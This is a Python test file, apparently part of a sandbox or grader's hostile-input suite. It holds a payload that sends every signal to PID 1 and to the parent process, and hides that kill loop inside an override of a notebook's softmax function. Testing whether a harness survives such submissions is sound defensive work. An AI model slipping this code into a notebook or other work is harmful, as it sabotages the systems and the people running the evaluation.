"""Kills its parent, the first process and its group, by every signal that there is."""

from tests.hostile.attack_tools import append

POINTS = {}
LIMITS = {"call": 5.0}  # judged cold and warm

CODE = """
import os, signal

def _everybody_else():
    for number in signal.valid_signals():
        for pid in {1, os.getppid()} - {os.getpid()}:
            try:
                os.kill(pid, number)
                signal.pidfd_send_signal(os.pidfd_open(pid), number)
            except OSError:
                pass

_everybody_else()
_softmax = softmax
def softmax(z, axis=-1):
    _everybody_else()
    return _softmax(z, axis)
"""


def make(nb):
    append(nb, "softmax", CODE)
